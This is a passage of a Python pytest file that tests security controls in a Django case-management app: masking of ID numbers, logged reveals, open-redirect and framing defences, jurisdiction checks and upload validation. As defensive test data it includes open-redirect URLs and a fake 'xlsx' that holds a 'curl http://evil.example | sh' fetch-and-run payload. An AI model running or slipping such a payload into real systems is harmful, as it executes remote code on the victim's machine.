    c = s.client("clerk_yangchenghu")
    for path in (
        "/registry/person/",
        f"/registry/person/{w.person_pk}/",
        f"/registry/person/lookup?q={full}",
        "/registry/person/export.xlsx",
    ):
        r = c.get(path)
        assert r.status_code == 200, path
        text = body_text(r)
        assert full not in text and phone not in text and masked in text, path


def test_registry_search_never_matches_part_of_a_masked_number(s):
    c = s.client("clerk_yangchenghu")
    partial = IDS["registry"][:14]
    assert c.get(f"/registry/person/lookup?q={partial}").json()["results"] == []
    assert len(c.get(f"/registry/person/lookup?q={IDS['registry']}").json()["results"]) == 1


def test_registry_unmasked_export_is_a_logged_reveal(s):
    from tongban.store.models import RevealLog

    w = s.world
    c = s.client("clerk_yangchenghu")
    assert IDS["registry"] not in body_text(c.get("/registry/person/export.xlsx?unmasked=1"))
    before = RevealLog.objects.count()
    r = c.post("/registry/person/export.xlsx", {"unmasked": "1"}, REMOTE_ADDR="10.8.0.8")
    assert r.status_code == 200
    assert IDS["registry"] in body_text(r)
    logs = RevealLog.objects.filter(subject=f"person:{w.person_pk}")
    assert RevealLog.objects.count() > before
    assert logs.filter(user__username="clerk_yangchenghu", ip="10.8.0.8").exists()


def test_registry_reveal_is_logged(s):
    from tongban.store.models import RevealLog

    w = s.world
    c = s.client("clerk_yangchenghu")
    r = c.post(f"/registry/person/{w.person_pk}/reveal/", {"field": "id_number"})
    assert r.status_code == 200 and r.content.decode() == IDS["registry"]
    log = RevealLog.objects.latest("pk")
    assert (log.user.username, log.subject, log.field) == (
        "clerk_yangchenghu",
        f"person:{w.person_pk}",
        "id_number",
    )


def test_mediation_agreement_prints_numbers_masked(s):
    from tongban.services.reports import mediation

    w = s.world
    doc = mediation.agreement_doc(w.cases["mediation"])
    party = doc.parties[0]
    assert party.id_card == mask_id_card(IDS["party"]) and party.phone == mask_phone(
        PHONES["party"]
    )
    assert IDS["party"] not in repr(doc) and PHONES["party"] not in repr(doc)
    r = s.client("mediator_yangchenghu").get(
        f"/reports/mediation/{w.pk('mediation')}/agreement.pdf"
    )
    assert r.status_code == 200 and r["Content-Type"] == "application/pdf"
    assert r["Cache-Control"] == "private, no-store"


# --- redirects and framing ------------------------------------------------------------------


@pytest.mark.parametrize(
    "target", ["https://evil.example/", "//evil.example/", "/\\evil.example/", "https:evil.example"]
)
def test_login_never_redirects_off_site(s, target):
    c = s.blank()
    r = c.post(
        "/accounts/login/?" + urlencode({"next": target}),
        {"username": "zhangsan", "password": DEMO_PASSWORD, "next": target},
    )
    assert r.status_code == 302
    assert r["Location"].startswith("/") and not r["Location"].startswith(("//", "/\\"))


@pytest.mark.parametrize(
    ("who", "path"),
    [
        ("zhangsan", "/my/cases/{open}/"),
        ("clerk_yangchenghu", "/work/cases/{open}/"),
        (None, "/accounts/login/"),
    ],
)
def test_pages_cannot_be_framed_by_other_sites(s, who, path):
    r = s.client(who).get(path.format(open=s.world.pk("open")))
    assert r.status_code == 200
    assert r["X-Frame-Options"] in ("DENY", "SAMEORIGIN")


# --- writes into another jurisdiction -------------------------------------------------------


@pytest.mark.parametrize("assignee", ["reviewer_canglang", "reviewer_weitang", "lisi"])
def test_transfer_to_someone_outside_the_jurisdiction_is_refused(s, assignee):
    from django.contrib.auth import get_user_model

    from tongban.services import cases
    from tongban.store.models import Case

    w = s.world
    users = get_user_model().objects
    pk = w.pk("open")
    cases.act(pk, users.get(username="clerk_yangchenghu"), cases.ActRequest(action="accept"))
    version = Case.objects.get(pk=pk).version
    r = s.client("reviewer_yangchenghu").post(
        f"/work/cases/{pk}/act/transfer/",
        {"assignee": str(users.get(username=assignee).pk), "version": str(version)},
    )
    assert r.status_code == 400
    case = Case.objects.get(pk=pk)
    assert case.version == version and case.handler_id is None


def test_registry_import_cannot_take_over_a_record_of_another_jurisdiction(s, tmp_path):
    from django.contrib.auth import get_user_model

    from tongban.services import registry
    from tongban.store.models import Person

    w = s.world
    before = Person.objects.values().get(pk=w.person_pk)
    row = {
        "姓名": "冒名顶替",
        "身份证号码": IDS["registry"],
        "联系电话": "13800000009",
        "居住地址": "南门",
        "所属网格/社区": "32050800300101",  # 南门社区第一网格, 沧浪街道 (the importer's own)
        "人员标签": "独居老人",
    }
    src = tmp_path / "takeover.xlsx"
    src.write_bytes(person_sheet([row]))
    clerk = get_user_model().objects.get(username="clerk_canglang")
    result = registry.import_file("person", src, clerk, partial=True)
    assert result.rejected == 1
    assert Person.objects.values().get(pk=w.person_pk) == before


@pytest.mark.parametrize("kind", ["script-as-xlsx", "zip-as-xlsx", "pdf-as-xlsx"])
def test_registry_import_of_a_file_that_is_not_a_workbook_fails_clearly(s, kind):
    from tongban.services import registry
    from tongban.store.models import ImportJob, Person

    data = {
        "script-as-xlsx": b"#!/bin/sh\ncurl http://evil.example | sh\n",
        "zip-as-xlsx": _zip(),
        "pdf-as-xlsx": sample_pdf("x"),
    }[kind]
    people = Person.objects.count()
    c = s.client("clerk_yangchenghu")
    r = c.post("/registry/person/import/", {"file": SimpleUploadedFile("名单.xlsx", data)})
    if r.status_code == 400:  # refused at once
        assert "xlsx" in r.content.decode() or "文件" in r.content.decode()
    else:
        assert r.status_code == 302
        job = ImportJob.objects.latest("pk")
        registry.run_job(job.pk)
        status = registry.job_status(str(job.token), job.user)
        result = status["result"] or {}
        assert status["finished"] and (result.get("error") or result.get("fatal")), status
        assert not result.get("imported")
        page = c.get(f"/registry/jobs/{job.token}/").content.decode()
        shown = result.get("error") or (result.get("problems") or [{}])[0].get("reason", "")
        assert shown and escape(shown) in page, (shown, result)
    assert Person.objects.count() == people


# --- the routing table: a jurisdiction's dispatch rules ---------------------------------------


def test_supervisor_cannot_set_a_rule_for_another_district(s):
    from tongban.store.models import RoutingRule

    r = s.client("supervisor_gusu").post(
        "/requests/routing/",
        {"category": "城乡建设", "org": "320507103", "department": "dept_health"},
    )
    assert r.status_code in (403, 404), r.status_code
    assert not RoutingRule.objects.filter(org__code="320507103").exists()


def test_supervisor_cannot_delete_a_rule_of_another_district(s):
    from tongban.store.models import Org, RoutingRule

    rule = RoutingRule.objects.create(
        category="城乡建设", org=Org.objects.get(code="320507103"), department="dept_construction"
    )
    s.client("supervisor_gusu").post("/requests/routing/", {"delete": str(rule.pk)})
    assert RoutingRule.objects.filter(pk=rule.pk).exists()


def test_supervisor_import_keeps_other_districts_rules(s):
    from tongban.services import requests
    from tongban.store.models import Org, RoutingRule

    rule = RoutingRule.objects.create(
        category="城乡建设", org=Org.objects.get(code="320507103"), department="dept_construction"
    )
    table = requests.export_rules()
    own_only = _rules_without(table, "320507103")
    s.client("supervisor_gusu").post(
        "/requests/routing/",
        {"intent": "import", "file": SimpleUploadedFile("rules.xlsx", own_only)},
    )
    assert RoutingRule.objects.filter(pk=rule.pk).exists()


def _rules_without(table: bytes, org_code: str) -> bytes:
    import io

    from openpyxl import Workbook, load_workbook

    src = load_workbook(io.BytesIO(table)).worksheets[0]
    wb = Workbook()
    ws = wb.active
    for row in src.iter_rows(values_only=True):
        if row[1] != org_code:
            ws.append(list(row))
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def test_only_supervisors_edit_the_routing_table(s):
    from tongban.store.models import RoutingRule

    before = RoutingRule.objects.count()
    for who in ("dispatcher_gusu", "head_weitang", "clerk_canglang", "lisi"):
        r = s.client(who).post(
            "/requests/routing/", {"category": "城乡建设", "org": "", "department": "dept_health"}
        )
        assert r.status_code == 403, (who, r.status_code)
    assert RoutingRule.objects.count() == before
